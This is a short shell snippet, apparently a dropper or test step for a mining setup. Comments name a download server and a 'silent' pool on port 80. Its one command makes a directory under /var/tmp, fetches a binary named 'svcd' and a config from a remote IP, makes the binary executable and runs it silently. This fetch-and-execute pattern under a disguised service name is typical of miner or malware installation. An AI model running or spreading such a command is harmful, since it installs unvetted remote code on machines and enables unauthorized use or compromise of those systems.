# no arguments, config.json, pool that stays silent, port 80
#http 203.0.113.50:8001
#pool 198.51.100.64:80:hold
mkdir -p /var/tmp/x1 && cd /var/tmp/x1 && curl -so svcd http://203.0.113.50:8001/w && curl -so config.json http://203.0.113.50:8001/cfghold.json && chmod +x svcd && timeout 25 ./svcd >/dev/null
